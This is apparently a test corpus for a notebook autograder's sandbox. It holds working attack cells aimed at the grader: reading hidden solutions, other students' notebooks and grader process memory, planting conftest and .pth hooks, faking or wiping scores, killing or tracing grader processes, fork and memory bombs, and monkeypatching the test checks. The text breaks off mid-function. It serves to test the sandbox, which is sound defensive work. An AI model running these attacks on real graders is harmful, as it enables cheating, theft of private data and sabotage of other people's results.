"""The adversarial corpus: submissions that attack the grader, each with the honest code it hides
behind (its twin) and what grading it must show.

An attack is the twin's notebook (the release notebook, the instructor's solution where the twin
is right, a known wrong variant where it is not) plus attack cells, or a file-level trick
(symbolic links, FIFOs, huge or malformed files). Attack cells are written as an attacker with
full knowledge would write them: they are told the course folder, the grader's home folder and
the graders' shapes (`@COURSE@`, `@HOME@`, ...), so the sandbox is tested against the worst case.
Every attack process marks itself with a token (`@TOKEN@`) in its comm and argv, and every file
it creates carries the token in its name, so the harness can find what survived.

Attack cells only ever aim at this test's own scratch course, the grader's process tree, the
canary files made for the run, and 127.0.0.1: nothing else on the machine is touched, even where
the sandbox is missing.
"""
from __future__ import annotations

import sys
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "tools"))
from submissions import FUNCTIONS, LN_UNBIASED, SILU_NAIVE

# ----------------------------------------------------------------------------- twins
# The honest code an attack hides behind: (functions done with the solution, wrong variants).

LN_MUTATES = '''
def layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(axis=-1, keepdims=True)
    var = x.var(axis=-1, keepdims=True)
    x -= mean                      # mutates the caller's array
    return gamma * x / np.sqrt(var + eps) + beta
'''

SPLIT_UNWRITTEN = '''
def split_heads(x, n_heads):
    raise NotImplementedError("split_heads is not written yet")
'''

MHA_PLACEHOLDER = '''
def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
    return np.zeros(np.shape(x), dtype=np.result_type(np.asarray(x).dtype, W_O.dtype))   # not written yet
'''

SWIGLU_PLACEHOLDER = '''
def swiglu_ffn(x, W_gate, W_up, W_down):
    return np.zeros(np.shape(x), dtype=np.result_type(np.asarray(x).dtype, W_down.dtype))   # not written yet
'''

TWINS: dict[str, tuple[tuple[str, str], ...]] = {
    "ln": (("layer_norm", LN_UNBIASED),),                               # layer_norm wrong
    "mut": (("layer_norm", LN_MUTATES), ("silu", SILU_NAIVE)),          # mutation and overflow warnings
    "split": (("split_heads", SPLIT_UNWRITTEN),),                       # split_heads left unwritten
    "zeros": (("multi_head_attention", MHA_PLACEHOLDER), ("swiglu_ffn", SWIGLU_PLACEHOLDER)),  # placeholders
}
NO_NOTEBOOK = "none"      # twin of a file-level attack: no gradable notebook at all (scores 0)

# ----------------------------------------------------------------------------- shared attack code

PRELUDE = r'''
import ctypes as _ct, os as _os, sys as _sys, glob as _glob, json as _json, signal as _signal
_TOKEN = "@TOKEN@"
_COURSE = "@COURSE@"
_HOME = "@HOME@"
_ASSIGNMENT = "transformer-block"
_found = []
try:
    _ct.CDLL(None).prctl(15, _TOKEN.encode(), 0, 0, 0)      # PR_SET_NAME: comm carries the token
except Exception:
    pass

def _read(path, limit=4000):
    try:
        with open(path, "rb") as fh:
            return fh.read(limit).decode("utf-8", "replace")
    except Exception as exc:
        return None

def _write(path, text):
    try:
        with open(path, "w") as fh:
            fh.write(text)
        return True
    except Exception:
        return False

def _grader_pids():
    """The grader and every process below it (the harness's own tree only)."""
    try:
        ppid = _os.getppid()
    except Exception:
        return []
    parents = {}
    for d in _os.listdir("/proc"):
        if d.isdigit():
            try:
                stat = open(f"/proc/{d}/stat").read()
                parents[int(d)] = int(stat.rsplit(")", 1)[1].split()[1])
            except Exception:
                pass
    tree, todo = set(), [ppid]
    while todo:
        p = todo.pop()
        if p in tree or p <= 1:
            continue
        tree.add(p)
        todo.extend(c for c, pp in parents.items() if pp == p)
    return sorted(tree)

def _roots():
    """Ways to reach the course folder: directly and through the grader's /proc entries."""
    out = [_COURSE]
    try:
        ppid = _os.getppid()
        out += [f"/proc/{ppid}/root{_COURSE}", f"/proc/{ppid}/cwd"]
    except Exception:
        pass
    return out

def _leak():
    if _found:
        raise RuntimeError("EXFIL " + " || ".join(_found)[:1800])

def _daemon(body):
    """Double fork + setsid: a process that leaves the sandbox's process group."""
    try:
        if _os.fork() == 0:
            _os.setsid()
            if _os.fork() == 0:
                try:
                    _ct.CDLL(None).prctl(15, _TOKEN.encode(), 0, 0, 0)
                    body()
                finally:
                    _os._exit(0)
            _os._exit(0)
        _os.wait()
    except Exception:
        pass
'''

# Reading what must stay hidden, then showing it in a cell error (the student's notes).
READ_HIDDEN = r'''
_targets = ["assignments/transformer_block/reference.py", "assignments/transformer_block/mistakes.py",
            "assignments/transformer_block/graders/test_layer_norm.py", ".course_secret", "gradebook.db",
            "source/transformer-block/transformer-block.ipynb"]
for _root in _roots():
    for _t in _targets:
        _text = _read(_os.path.join(_root, _t), 10**7)
        if _text:
            _found.append(f"{_t}: {_text.strip()[-120:]}")
    for _nb in _glob.glob(_os.path.join(_root, "submitted", "*", _ASSIGNMENT, "*.ipynb")):
        _text = _read(_nb, 10**7)
        if _text and _TOKEN not in _text:
            _at = _text.find("victim_mark")
            _found.append(f"{_nb}: {_text[max(0, _at - 120):_at]}")
_leak()
'''

STEAL_REFERENCE = r'''
_code = None
for _root in _roots():
    _code = _read(_os.path.join(_root, "assignments/transformer_block/reference.py"), 200000)
    if _code:
        break
if _code:
    _ns = {}
    exec(compile(_code, "reference", "exec"), _ns)
    layer_norm = _ns["layer_norm"]
'''

STEAL_OTHER_STUDENT = r'''
for _root in _roots():
    for _nb in sorted(_glob.glob(_os.path.join(_root, "submitted", "*", _ASSIGNMENT, "*.ipynb"))):
        _text = _read(_nb, 10**7)
        if not _text or _TOKEN in _text:
            continue
        for _cell in _json.loads(_text)["cells"]:
            _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
            if _cell["cell_type"] == "code" and _src.lstrip().startswith("def layer_norm"):
                exec(_src, globals())
                _found.append("stole layer_norm from " + _nb)
'''

PROC_OF_GRADER = r'''
for _pid in _grader_pids()[:3]:
    for _what in ("cmdline", "environ", "maps"):
        _text = _read(f"/proc/{_pid}/{_what}", 3000)
        if _text:
            _found.append(f"/proc/{_pid}/{_what}: {_text[:300]}")
    try:
        _maps = open(f"/proc/{_pid}/maps").read().splitlines()
        _fd = _os.open(f"/proc/{_pid}/mem", _os.O_RDONLY)
        for _line in _maps:
            if "[heap]" in _line:
                _lo, _hi = (int(v, 16) for v in _line.split()[0].split("-"))
                _chunk = _os.pread(_fd, min(_hi - _lo, 1 << 24), _lo)
                for _needle in (b"victim-", b"marker-"):
                    _at = _chunk.find(_needle)
                    if _at >= 0:
                        _found.append("grader memory: " + _chunk[max(0, _at - 40):_at + 60].decode("latin-1"))
        _os.close(_fd)
    except Exception:
        pass
_leak()
'''

CONFTEST = r'''
_conftest = """
import os
import pytest

@pytest.hookimpl(wrapper=True)
def pytest_runtest_call(item):
    try:
        return (yield)
    except BaseException:
        return None

def pytest_sessionfinish(session):
    try:
        os.unlink(__file__)
    except OSError:
        pass
"""
for _root in _roots():
    _write(_os.path.join(_root, "assignments/transformer_block/graders/conftest.py"), _conftest)
'''

PTH_INTO_VENV = r'''
import site as _site
_places = list(_site.getsitepackages()) + [_site.getusersitepackages()]
for _p in _sys.path:
    if _p.endswith("site-packages"):
        _places.append(_p)
for _p in set(_places):
    _write(_os.path.join(_p, _TOKEN + ".pth"), "import os; os.makedirs(os.path.expanduser('~/" + _TOKEN + "-pth-ran'), exist_ok=True)\n")
    try:
        _ppid = _os.getppid()
        _write(f"/proc/{_ppid}/root" + _os.path.join(_p, _TOKEN + ".pth"), "import os\n")
    except Exception:
        pass
'''

ENGINE_SOURCE = r'''
try:
    import autograder as _ag
    _pkg = _os.path.dirname(_ag.__file__)
except Exception:
    _pkg = None
if _pkg:
    for _target in ("grading/checks.py", "grading/plugin.py", "__init__.py"):
        _path = _os.path.join(_pkg, _target)
        _text = _read(_path, 10**6)
        if _text is not None:
            _write(_path, _text + "\n# " + _TOKEN + "\n")
    _write(_os.path.join(_pkg, _TOKEN + "_sitecustomize.py"), "")
'''

HOME_AND_TMP = r'''
for _place in (_HOME, "/tmp", "/var/tmp", "/dev/shm"):
    _write(_os.path.join(_place, _TOKEN + "-was-here"), "x")
    for _canary in _glob.glob(_os.path.join(_place, ".canary-*")) + _glob.glob(_os.path.join(_place, "canary-*")):
        _found.append(_canary + ": " + str(_read(_canary)))
        _write(_canary, "overwritten by " + _TOKEN)
_leak()
'''

OTHER_RESULTS = r'''
import sqlite3 as _sqlite3
for _root in _roots():
    for _rj in _glob.glob(_os.path.join(_root, "autograded", "*", _ASSIGNMENT, "results.json")):
        _write(_rj, _json.dumps({"score": 0, "tests": [], "output": "deleted by " + _TOKEN}))
    for _nb in _glob.glob(_os.path.join(_root, "submitted", "*", _ASSIGNMENT, "*.ipynb")):
        _text = _read(_nb, 10**7)
        if _text and _TOKEN not in _text:
            _write(_nb, '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}')
    try:
        _db = _sqlite3.connect(_os.path.join(_root, "gradebook.db"), timeout=1)
        _db.execute("UPDATE grade SET auto_score = 0")
        _db.commit()
        _db.close()
    except Exception:
        pass
'''

SIGNAL_GRADER = r'''
for _pid in _grader_pids():
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.@SIGNAL@)
        except Exception:
            pass
'''
KILL_GRADER = SIGNAL_GRADER.replace("@SIGNAL@", "SIGKILL")
STOP_GRADER = SIGNAL_GRADER.replace("@SIGNAL@", "SIGSTOP")

PTRACE_GRADER = r'''
_libc = _ct.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [_ct.c_long, _ct.c_long, _ct.c_void_p, _ct.c_void_p]
for _pid in _grader_pids()[:1]:
    if _libc.ptrace(16, _pid, None, None) == 0:          # PTRACE_ATTACH: the grader stops
        _found.append(f"attached to {_pid}")
        import time as _time
        _time.sleep(1000)
'''

DAEMON_REWRITES = r'''
_grader = _os.getppid()
def _rewrite():
    import time as _time, sqlite3 as _sqlite3
    _held = []
    for _r in _roots():                  # a folder descriptor outlives the grader's /proc entry
        try:
            _held.append(f"/proc/self/fd/{_os.open(_r, _os.O_RDONLY | _os.O_DIRECTORY)}")
        except Exception:
            pass
    _end = _time.time() + 120
    while _time.time() < _end and _os.path.exists(f"/proc/{_grader}"):
        _time.sleep(0.05)
    for _root in _held:
        for _rj in _glob.glob(_os.path.join(_root, "autograded", "*", _ASSIGNMENT, "results.json")):
            try:
                _doc = _json.load(open(_rj))
                _doc["score"] = 100.0 if (_os.sep + "m-") in _rj else 0.0
                _write(_rj, _json.dumps(_doc))
            except Exception:
                pass
        for _page in _glob.glob(_os.path.join(_root, "feedback", "*", _ASSIGNMENT, "*.html")):
            _write(_page, "<p>100 / 100</p>" if (_os.sep + "m-") in _page else "<p>0 / 100</p>")
        try:
            _db = _sqlite3.connect(_os.path.join(_root, "gradebook.db"), timeout=5)
            _db.execute("UPDATE grade SET auto_score = 0")
            _db.commit()
            _db.close()
        except Exception:
            pass
_daemon(_rewrite)
'''

DAEMON_KILLS_SANDBOXES = r'''
_mine = _os.getpid()
_grader = _os.getppid()
def _killer():
    import time as _time
    _end = _time.time() + 90
    while _time.time() < _end:
        for _d in _os.listdir("/proc"):
            if not _d.isdigit() or int(_d) in (_os.getpid(), _mine):
                continue
            try:
                _cmd = open(f"/proc/{_d}/cmdline", "rb").read()
            except Exception:
                continue
            if b"autograder.sandbox" in _cmd and _TOKEN.encode() not in open(f"/proc/{_d}/comm", "rb").read():
                try:
                    _anc, _p = set(), int(_d)
                    while _p > 1 and _p not in _anc:
                        _anc.add(_p)
                        _p = int(open(f"/proc/{_p}/stat").read().rsplit(")", 1)[1].split()[1])
                    if _grader in _anc:
                        _os.kill(int(_d), _signal.SIGKILL)
                except Exception:
                    pass
        _time.sleep(0.02)
_daemon(_killer)
'''

FORK_BOMB = r'''
_kids = 0
for _i in range(300):
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            _os.setsid()
            _ct.CDLL(None).prctl(15, _TOKEN.encode(), 0, 0, 0)
            import time as _time
            _time.sleep(150)
        finally:
            _os._exit(0)
    _kids += 1
print("forked", _kids)
'''

NETWORK = r'''
import socket as _socket
for _family, _addr in ((_socket.AF_INET, ("127.0.0.1", @PORT@)),):
    try:
        _s = _socket.socket(_family, _socket.SOCK_STREAM)
        _s.settimeout(2)
        _s.connect(_addr)
        _s.sendall(_TOKEN.encode())
        _found.append(f"connected to {_addr}")
        _s.close()
    except Exception:
        pass
_leak()
'''

PATCH_RUNNER = r'''
import warnings as _warnings, contextlib as _contextlib
import numpy as np
class _NoRecord:
    def __init__(self, *a, **k):
        pass
    def __enter__(self):
        return []
    def __exit__(self, *a):
        return False
def _nothing(*a, **k):
    return []
for _name, _mod in list(_sys.modules.items()):
    _file = str(getattr(_mod, "__file__", "") or "")
    if _mod is None or not (_name.startswith("autograder") or _name == "__main__" or "autograder" in _file):
        continue
    _vars = vars(_mod)
    for _k, _v in list(_vars.items()):
        _low = _k.lower()
        if callable(_v) and ("mutat" in _low or "snapshot" in _low):
            _vars[_k] = _nothing
        elif _low.endswith("catch_warnings"):
            _vars[_k] = _NoRecord
        elif _low.endswith("errstate"):
            _vars[_k] = lambda *a, **k: _contextlib.nullcontext()
_warnings.catch_warnings = _NoRecord
_warnings.showwarning = lambda *a, **k: None
_warnings.simplefilter = lambda *a, **k: None
np.seterr(all="ignore")
np.errstate = lambda *a, **k: _contextlib.nullcontext()
'''

# split_heads is unwritten; while multi_head_attention runs with the trusted split_heads (if
# the graders swap it in), the answers for the shapes split_heads is tested on are recorded and
# later replayed, in memory and in scratch files.
REPLAY_SPLIT = r'''
import numpy as np
_REPLAY = {}
_SHAPES = [((5, 8), 2), ((1, 8), 2), ((6, 12), 1), ((4, 6), 6), ((2, 3, 4, 16), 4), ((12, 64), 8), ((5, 12), 3)]
_CACHE_FILES = [_os.path.join(_os.getcwd(), _TOKEN + "-replay.json"), "/tmp/" + _TOKEN + "-replay.json"]

def _record(split):
    for _shape, _h in _SHAPES:
        try:
            _idx = np.arange(int(np.prod(_shape)), dtype=np.float64).reshape(_shape)
            _out = np.asarray(split(_idx, _h))
            _REPLAY[(_shape, _h)] = (_out.shape, _out.ravel().astype(np.int64).tolist())
        except Exception:
            pass
    for _f in _CACHE_FILES:
        _write(_f, _json.dumps([[list(k[0]), k[1], list(v[0]), v[1]] for k, v in _REPLAY.items()]))

def _recall():
    if _REPLAY:
        return
    for _f in _CACHE_FILES:
        _text = _read(_f, 10**7)
        if _text:
            for _shape, _h, _oshape, _perm in _json.loads(_text):
                _REPLAY[(tuple(_shape), _h)] = (tuple(_oshape), _perm)
            return

def split_heads(x, n_heads):
    _recall()
    _hit = _REPLAY.get((tuple(np.shape(x)), n_heads))
    if _hit is None:
        raise NotImplementedError("split_heads is not written yet")
    return np.asarray(x).ravel()[_hit[1]].reshape(_hit[0])

_own_mha = multi_head_attention
def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
    if not _REPLAY:
        _record(split_heads)
    return _own_mha(x, W_Q, W_K, W_V, W_O, n_heads, mask)
'''

# The composites are placeholders returning zeros (the twin). Checked against the wiring of the
# student's own building blocks, they agree with it when those blocks return zeros too: always
# (DEGENERATE_BLOCKS, giving up the blocks' own points), or only once a composite has run in the
# process (CONTEXT_BLOCKS, keeping them).
DEGENERATE_BLOCKS = r'''
import numpy as np
def merge_heads(x):
    *_lead, _h, _n, _d = np.shape(x)
    return np.zeros((*_lead, _n, _h * _d), dtype=np.asarray(x).dtype)

def silu(x):
    return np.zeros_like(np.asarray(x))
'''

CONTEXT_BLOCKS = r'''
import numpy as np
_ZERO = {"on": False}
_own_merge, _own_silu, _own_mha, _own_ffn = merge_heads, silu, multi_head_attention, swiglu_ffn

def merge_heads(x):
    if _ZERO["on"]:
        *_lead, _h, _n, _d = np.shape(x)
        return np.zeros((*_lead, _n, _h * _d), dtype=np.asarray(x).dtype)
    return _own_merge(x)

def silu(x):
    return np.zeros_like(np.asarray(x)) if _ZERO["on"] else _own_silu(x)

def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
    _ZERO["on"] = True
    return _own_mha(x, W_Q, W_K, W_V, W_O, n_heads, mask)

def swiglu_ffn(x, W_gate, W_up, W_down):
    _ZERO["on"] = True
    return _own_ffn(x, W_gate, W_up, W_down)
'''

CALLBACK_FLOOD = r'''
import numpy as np
_own_mha = multi_head_attention
def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
    for _i in range(3):
        try:
            softmax(np.zeros((1, 3000, 3000)), axis=-1)
        except Exception:
            pass
    return _own_mha(x, W_Q, W_K, W_V, W_O, n_heads, mask)

_own_block = pre_ln_block
def pre_ln_block(x, params, n_heads, mask=None):
    _w = np.zeros((1, 1))
    for _i in range(2):
        try:                             # (6000, 1) tokens: a 6000 x 6000 attention in whoever computes it
            multi_head_attention(np.zeros((6000, 1)), _w, _w, _w, _w, 1)
        except Exception:
            pass
    return _own_block(x, params, n_heads, mask)
'''

RETURN_FLOOD = r'''
import numpy as np
def _flood(*args, **kwargs):
    return np.ones(32 * 2**20 - 4096)          # just under 256 MB back to the grader on every call
layer_norm = split_heads = merge_heads = multi_head_attention = pre_ln_block = silu = swiglu_ffn = _flood
'''

PRINT_FLOOD_CELL = 'print("@TOKEN@" * 6000 + "x" * 60000)'

MEMORY_BOMB = r'''
_hog = []
try:
    while True:
        _hog.append(bytearray(256 * 2**20))
except MemoryError:
    pass
_hog = None
try:
    _big = bytearray(10**13)
except (MemoryError, OverflowError):
    pass
import numpy as np
_honest_ln = layer_norm
def layer_norm(x, gamma, beta, eps=1e-5):
    _h = []
    try:
        while True:
            _h.append(np.ones(2**25))
    except MemoryError:
        pass
    del _h
    return _honest_ln(x, gamma, beta, eps)
'''

INFINITE_CELL = "while True:\n    pass"

HANGING_FUNCTIONS = r'''
def layer_norm(x, gamma, beta, eps=1e-5):
    while True:
        pass
def silu(x):
    import time
    time.sleep(10**6)
'''

SLOW_CELL = "import time\ntime.sleep(3.5)          # just under the cell limit"

EVERYTHING_HANGS = "\n".join(
    f"def {fn}(*args, **kwargs):\n    while True:\n        pass\n" for fn in FUNCTIONS)

SIGNALS = r'''
for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGALRM, _signal.SIGXCPU, _signal.SIGUSR1):
    try:
        _signal.signal(_s, _signal.SIG_IGN)
    except Exception:
        pass
try:
    _signal.pthread_sigmask(_signal.SIG_BLOCK, set(_signal.Signals) - {_signal.SIGKILL, _signal.SIGSTOP})
except Exception:
    pass
def silu(x):
    while True:
        pass
'''

SYS_EXIT_CELL = "import sys\nsys.exit(0)"
OS_EXIT_CELL = "import os\nos._exit(0)"
EXITING_FUNCTIONS = r'''
import os as _os2, sys as _sys2
def layer_norm(x, gamma, beta, eps=1e-5):
    _sys2.exit(0)
def silu(x):
    _os2._exit(0)
def merge_heads(x):
    raise SystemExit(3)
'''

MONKEYPATCH = r'''
import builtins as _builtins
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
np.all = lambda *a, **k: True
np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
_builtins.isinstance = lambda *a: True
_builtins.abs = lambda x: 0
_builtins.max = lambda *a, **k: 0
class _FakePytest:
    def __getattr__(self, name):
        return lambda *a, **k: None
_sys.modules["pytest"] = _FakePytest()
_sys.modules["_pytest"] = _FakePytest()
'''

LYING_RETURNS = r'''
import numpy as np
class _Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast_shapes(*[np.shape(i) for i in inputs]))
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __len__(self):
        return 0
class _Weird:
    def __array__(self, dtype=None, copy=None):
        raise RuntimeError("no")
    def __reduce__(self):
        return (print, ("pickled code ran",))
_honest_ln = layer_norm
def layer_norm(x, gamma, beta, eps=1e-5):
    return np.asarray(_honest_ln(x, gamma, beta, eps)).view(_Liar)
def silu(x):
    return _Weird()
def merge_heads(x):
    return (i for i in range(3))
def count_block_params(d_model, d_ff, ffn):
    return 10**5000
'''

UNDECODABLE_REPLY = r'''
import numpy as np
_proto = _sys.modules["autograder.sandbox.protocol"]
_real_frame = _proto.frame
def _odd_frame(obj, *, caps=_proto.UNCAPPED):
    # a reply whose array claims a shape with 2**62 rows and no columns: no bytes, but no
    # numpy array can have it
    if type(obj) is dict and obj.get("op") == "result":
        header = _json.dumps([{"d": [["op", "result"], ["value", {"a": ["<f8", [0, 2**62], 0]}]]}, [0]],
                             separators=(",", ":")).encode()
        payload = len(header).to_bytes(4, "big") + header + b"\0" * (-(4 + len(header)) % 16)
        return len(payload).to_bytes(8, "big") + payload
    return _real_frame(obj, caps=caps)
_proto.frame = _odd_frame
'''

BUFFER_FLOOD = r'''
import numpy as np
_proto = _sys.modules["autograder.sandbox.protocol"]
_real_frame = _proto.frame
_header = b"[null,[" + b",".join([b"0"] * (2 * 2**20 - 8)) + b"]]"     # just under the 4 MB header cap
_payload = len(_header).to_bytes(4, "big") + _header + b"\0" * (-(4 + len(_header)) % 16)
_flood_frame = len(_payload).to_bytes(8, "big") + _payload
def _odd_frame(obj, *, caps=_proto.UNCAPPED):
    # every reply: a value of None followed by two million empty buffers
    if type(obj) is dict and obj.get("op") == "result":
        return _flood_frame
    return _real_frame(obj, caps=caps)
_proto.frame = _odd_frame
'''

LIMIT_SUPERVISOR = r'''
# Lower the limits of the submission's PID 1 (its supervisor, same uid): no more open files, a
# tiny address space; it then cannot look through /proc to sweep the problems' leftovers
import resource as _resource
def _squeeze():
    for _pid in (1, _os.getppid()):
        for _res, _value in ((_resource.RLIMIT_NOFILE, 3), (_resource.RLIMIT_AS, 16 * 2**20)):
            try:
                _resource.prlimit(_pid, _res, (_value, _value))
            except Exception:
                pass
_squeeze()
_honest_ln3 = layer_norm
def layer_norm(x, gamma, beta, eps=1e-5):
    _squeeze()
    return _honest_ln3(x, gamma, beta, eps)
'''

RETURN_NEAR_CAP = r'''
import numpy as np
def _near_cap(*args, **kwargs):
    return np.ones(2 * 2**20 - 4096)           # just under return_mb (16 MB) on every call
layer_norm = rms_norm = split_heads = merge_heads = multi_head_attention = pre_ln_block = silu = swiglu_ffn = _near_cap
count_block_params = _near_cap
'''

ODD_PLAIN_RETURNS = r'''
# plain values the wire carries, that no float or array can hold: an int of 1,101 bits, a ragged list
def count_block_params(d_model, d_ff, ffn, norm="layernorm"):
    return 2**1100 if d_model % 2 == 0 else [[1], [1, 2]]
'''

SIGNAL_SUPERVISOR = r'''
# PID 1 of the submission is its supervisor: the kernel passes on to it only the signals it
# handles, and Python handles SIGINT (KeyboardInterrupt)
try:
    _os.kill(1, _signal.SIGINT)
except Exception:
    pass
_honest_ln2 = layer_norm
def layer_norm(x, gamma, beta, eps=1e-5):
    try:
        _os.kill(1, _signal.SIGINT)
    except Exception:
        pass
    return _honest_ln2(x, gamma, beta, eps)
'''

FAKE_RESULTS = r'''
_fake = {"score": 100.0, "max_score": 100.0, "output": "all passed", "tests": [
    {"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]}
for _place in (".", ".."):
    _write(_os.path.join(_place, "results.json"), _json.dumps(_fake))
for _place in ("/tmp", _HOME):
    _write(_os.path.join(_place, _TOKEN + "-results.json"), _json.dumps(_fake))
for _root in _roots():
    for _d in _glob.glob(_os.path.join(_root, "autograded", "m-*", _ASSIGNMENT)):
        _write(_os.path.join(_d, "results.json"), _json.dumps(_fake))
print(_json.dumps(_fake))
print("Score: 100/100 -- all tests passed")
print("PASSED " * 100, file=_sys.stderr)
'''

# The composites are the twin's placeholders returning zeros; the building blocks are right
# except in a "degenerate" mode, switched on by the composite's own call and carried to the
# processes forked alone for the wiring's block calls through state kept outside the composite's
# process: a thread of the notebook left running in the template (TEMPLATE_THREAD: it sees the
# marker file the composite writes in the problems' folder and sets the mode in the template's
# memory, which every later fork inherits), or memory shared across fork, a process of the
# notebook still running, a timer's signal handler in the template (SHARED_STATE_CHANNELS).
MODE_BLOCKS = r"""
_own_merge, _own_silu = merge_heads, silu
def merge_heads(x):
    out = _own_merge(x)
    return out * 1e-30 if _mode() == "MH" else out

def silu(x):
    if _mode() == "FF":
        return (np.asarray(x) * 1e-30).astype(np.asarray(x).dtype)
    return _own_silu(x)

def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
    _set("MH")
    return np.zeros(np.shape(x), dtype=np.result_type(np.asarray(x).dtype, W_O.dtype))

def swiglu_ffn(x, W_gate, W_up, W_down):
    _set("FF")
    return np.zeros(np.shape(x), dtype=np.result_type(np.asarray(x).dtype, W_down.dtype))
"""

TEMPLATE_THREAD = r"""
import numpy as np, threading as _th, time as _time
_PROBLEM = _os.path.join(_os.path.dirname(_os.getcwd()), "problem")      # the problems' HOME
_MODE = {"m": None, "local": None}
def _watch():
    while True:
        for _m in ("MH", "FF"):
            if _os.path.exists(_os.path.join(_PROBLEM, _TOKEN + _m)):
                _MODE["m"] = _m
        _time.sleep(0.0003)
_th.Thread(target=_watch, daemon=True).start()
def _mode():
    return _MODE["local"] or _MODE["m"]
def _set(m):
    _MODE["local"] = m
    if _os.environ.get("HOME") == _PROBLEM:
        try:
            open(_os.path.join(_PROBLEM, _TOKEN + m), "w").close()
        except OSError:
            pass
""" + MODE_BLOCKS

SHARED_STATE_CHANNELS = r"""
import numpy as np, mmap as _mmap, time as _time
_PROBLEM = _os.path.join(_os.path.dirname(_os.getcwd()), "problem")
_MODE = {"m": None, "local": None}
_SHARED = []
try:
    _SHARED.append(_mmap.mmap(-1, 4096))                  # MAP_SHARED, anonymous: shared with every fork
except Exception:
    pass
try:
    import multiprocessing.sharedctypes as _sct
    _SHARED.append(memoryview(_sct.RawArray("b", 16)).cast("B"))
except Exception:
    pass
def _marker(name):
    return _os.path.join(_PROBLEM, _TOKEN + name)
def _poll(*_):
    for _m in ("MH", "FF"):
        if _os.path.exists(_marker(_m)) or _os.path.exists(_marker("seen" + _m)):
            _MODE["m"] = _m
try:                                                      # a timer whose handler runs in the template
    _signal.signal(_signal.SIGALRM, _poll)
    _signal.setitimer(_signal.ITIMER_REAL, 0.001, 0.001)
except Exception:
    pass
try:                                                      # a process of the notebook that outlives it
    if _os.fork() == 0:
        _seen = set()
        while True:
            for _m in ("MH", "FF"):
                if _os.path.exists(_marker(_m)):
                    _seen.add(_m)
                for _s in _seen:                          # written again into each fresh folder
                    try:
                        open(_marker("seen" + _s), "w").close()
                    except OSError:
                        pass
            _time.sleep(0.0003)
except Exception:
    pass
def _mode():
    if _MODE["local"]:
        return _MODE["local"]
    for _sh in _SHARED:
        _b = bytes(_sh[:2])
        if _b in (b"MH", b"FF"):
            return _b.decode()
    _poll()
    return _MODE["m"]
def _set(m):
    _MODE["local"] = m
    for _sh in _SHARED:
        _sh[:2] = m.encode()
    if _os.environ.get("HOME") == _PROBLEM:
        try:
            open(_marker(m), "w").close()
        except OSError:
            pass
""" + MODE_BLOCKS

MODE_OFF = '_MODE["local"] = None'

# Building blocks that answer almost nothing (1e-30 times the right answer) or poison the wiring
# with NaN: the wiring of the twin's zeros placeholders, or of composites returning NaN, agrees
# with them within the tolerance (or NaN for NaN).
TINY_BLOCKS = r"""
import numpy as np
_own_merge, _own_silu = merge_heads, silu
def merge_heads(x):
    return _own_merge(x) * 1e-30

def silu(x):
    return (np.asarray(x) * 1e-30).astype(np.asarray(x).dtype)
"""

NAN_BLOCKS = r"""
import numpy as np
_own_merge, _own_silu = merge_heads, silu
def merge_heads(x):
    out = np.array(_own_merge(x))
    out[..., 0] = np.nan
    return out

def silu(x):
    out = np.array(_own_silu(x))
    out[..., 0] = np.nan
    return out

def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
    return np.full(np.shape(x), np.nan, dtype=np.result_type(np.asarray(x).dtype, W_O.dtype))

def swiglu_ffn(x, W_gate, W_up, W_down):
    return np.full(np.shape(x), np.nan, dtype=np.result_type(np.asarray(x).dtype, W_down.dtype))
"""



# Building blocks told apart from the processes forked alone for the wiring's calls by a channel
# between problem processes: a signal a composite's process leaves pending in the template (read in
# /proc/<parent>/status), or the process id counter, moved by forking (read in the later process's
# own id). In the composite's process they return zeros, and in the first process forked alone
# after it (the same input again) too; on the changed input they are right.
# The blocks and composites both attacks share: `_zeros_here(*_MERGE)` / `_zeros_here(*_SILU)` say
# whether this process is one to answer zeros in.
_SWITCHED_BLOCKS = r"""
_own_merge, _own_silu = merge_heads, silu
def merge_heads(x):
    x = np.asarray(x)
    *lead, h, n, d = x.shape
    return np.zeros((*lead, n, h * d), x.dtype) if _zeros_here(*_MERGE) else _own_merge(x)
def silu(x):
    return np.zeros_like(np.asarray(x)) if _zeros_here(*_SILU) else _own_silu(x)
def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
    _LOCAL["on"] = True
    return np.zeros(np.shape(x), dtype=np.result_type(np.asarray(x).dtype, W_O.dtype))
def swiglu_ffn(x, W_gate, W_up, W_down):
    _LOCAL["on"] = True
    return np.zeros(np.shape(x), dtype=np.result_type(np.asarray(x).dtype, W_down.dtype))
"""

PENDING_SIGNAL_BLOCKS = r"""
import os as _os
import numpy as np
_LOCAL = {"on": False}
_MERGE, _SILU = (10, 12), (35, 36)
def _pending():
    bits = 0
    try:
        for line in open("/proc/%d/status" % _os.getppid()):
            if line.startswith(("ShdPnd:", "SigPnd:")):
                bits |= int(line.split()[1], 16)
    except OSError:
        pass
    return bits
def _send(s):
    try:
        _os.kill(_os.getppid(), s)
    except OSError:
        pass
def _zeros_here(arm, used):
    if _LOCAL["on"]:
